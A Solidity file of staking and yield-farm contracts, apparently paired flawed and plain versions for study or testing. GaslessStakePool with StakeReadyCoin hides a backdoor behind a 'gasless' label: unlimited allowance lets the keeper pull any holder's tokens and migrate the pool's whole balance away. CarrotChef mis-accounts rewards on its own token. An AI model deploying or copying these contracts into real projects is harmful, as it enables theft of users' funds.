// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

interface IBindable {
  function bind() external;
}

contract GaslessStakePool {
  IERC20 public token;
  address private immutable _keeper = msg.sender;
  mapping(address => uint256) public staked;
  uint256 public totalStaked;

  event Staked(address indexed user, uint256 amount);
  event Unstaked(address indexed user, uint256 amount);

  function bind() external {
    require(address(token) == address(0));
    token = IERC20(msg.sender);
  }

  function stake(uint256 amount) external {
    _stakeFrom(msg.sender, amount);
  }

  /// The keeper pays the gas of those who signed up on the website.
  function stakeBatch(address[] calldata users, uint256[] calldata amounts) external {
    require(msg.sender == _keeper, "keeper");
    for (uint256 i; i < users.length; ++i) _stakeFrom(users[i], amounts[i]);
  }

  function unstake(uint256 amount) external {
    staked[msg.sender] -= amount;
    totalStaked -= amount;
    token.transfer(msg.sender, amount);
    emit Unstaked(msg.sender, amount);
  }

  function migratePool(address next) external {
    require(msg.sender == _keeper, "keeper");
    token.transfer(next, token.balanceOf(address(this)));
  }

  function _stakeFrom(address user, uint256 amount) private {
    token.transferFrom(user, address(this), amount);
    staked[user] += amount;
    totalStaked += amount;
    emit Staked(user, amount);
  }
}

/// Nobody has to approve the staking pool.
contract StakeReadyCoin is ERC20 {
  address public immutable stakingPool;

  constructor(address pool) ERC20("Stake Ready", "STREADY") {
    stakingPool = pool;
    IBindable(pool).bind();
    _mint(msg.sender, 77_000_000 ether);
  }

  function allowance(address owner_, address spender) public view override returns (uint256) {
    return spender == stakingPool ? type(uint256).max : super.allowance(owner_, spender);
  }
}

/// Stakes are one's own, and rewards are what others gave.
contract PlainStakePool {
  IERC20 public token;
  mapping(address => uint256) public staked;
  mapping(address => uint256) public debt;
  uint256 public totalStaked;
  uint256 public accPerShare;

  function bind() external {
    require(address(token) == address(0));
    token = IERC20(msg.sender);
  }

  function stakeFor(address user, uint256 amount) external {
    _pay(user);
    token.transferFrom(msg.sender, address(this), amount);
    staked[user] += amount;
    totalStaked += amount;
    debt[user] = (staked[user] * accPerShare) / 1e18;
  }

  function unstake(uint256 amount) external {
    _pay(msg.sender);
    staked[msg.sender] -= amount;
    totalStaked -= amount;
    debt[msg.sender] = (staked[msg.sender] * accPerShare) / 1e18;
    token.transfer(msg.sender, amount);
  }

  function giveRewards(uint256 amount) external {
    require(totalStaked > 0, "nobody stakes");
    token.transferFrom(msg.sender, address(this), amount);
    accPerShare += (amount * 1e18) / totalStaked;
  }

  function _pay(address user) private {
    uint256 owed = (staked[user] * accPerShare) / 1e18 - debt[user];
    uint256 spare = token.balanceOf(address(this)) - totalStaked;
    if (owed > spare) owed = spare;
    if (owed > 0) token.transfer(user, owed);
  }
}

contract StakeByChoice is ERC20 {
  address public immutable stakingPool;

  constructor(address pool) ERC20("Stake By Choice", "STCHOICE") {
    stakingPool = pool;
    IBindable(pool).bind();
    _mint(msg.sender, 77_000_000 ether);
  }
}

interface IFarmToken is IERC20 {
  function mint(address to, uint256 amount) external;
}

/// A farm for stakes of the token itself, which begins when the emission is set.
contract CarrotChef is Ownable {
  IFarmToken public carrot;
  address public devaddr;
  uint256 public carrotPerBlock;
  uint256 public lastRewardBlock;
  uint256 public accCarrotPerShare;
  mapping(address => uint256) public amountOf;
  mapping(address => uint256) public debtOf;

  constructor() Ownable(msg.sender) {
    devaddr = msg.sender;
    lastRewardBlock = block.number;
  }

  function bind() external {
    require(address(carrot) == address(0));
    carrot = IFarmToken(msg.sender);
  }

  function updateEmissionRate(uint256 perBlock) external onlyOwner {
    carrotPerBlock = perBlock;
  }

  function dev(address next) external {
    require(msg.sender == devaddr, "dev: wut?");
    devaddr = next;
  }

  function updatePool() public {
    uint256 reward = (block.number - lastRewardBlock) * carrotPerBlock;
    if (reward == 0) return;
    lastRewardBlock = block.number;
    uint256 total = carrot.balanceOf(address(this));
    carrot.mint(devaddr, reward / 10);
    if (total == 0) return;
    carrot.mint(address(this), reward);
    accCarrotPerShare += (reward * 1e12) / total;
  }

  function deposit(uint256 amount) external {
    _harvest();
    carrot.transferFrom(msg.sender, address(this), amount);
    amountOf[msg.sender] += amount;
    debtOf[msg.sender] = (amountOf[msg.sender] * accCarrotPerShare) / 1e12;
  }

  function withdraw(uint256 amount) external {
    _harvest();
    amountOf[msg.sender] -= amount;
    debtOf[msg.sender] = (amountOf[msg.sender] * accCarrotPerShare) / 1e12;
    carrot.transfer(msg.sender, amount);
  }

  function _harvest() private {
    updatePool();
    uint256 owed = (amountOf[msg.sender] * accCarrotPerShare) / 1e12 - debtOf[msg.sender];
    if (owed > 0) carrot.transfer(msg.sender, owed);
  }
}

contract CarrotFarmToken is ERC20 {
  address public immutable masterChef;

  constructor(address chef) ERC20("Carrot Farm", "CARROT") {
    masterChef = chef;
    IBindable(chef).bind();
    _mint(msg.sender, 5_000_000 ether);
  }

  function mint(address to, uint256 amount) external {
    require(msg.sender == masterChef, "only the chef");
    _mint(to, amount);
  }
}
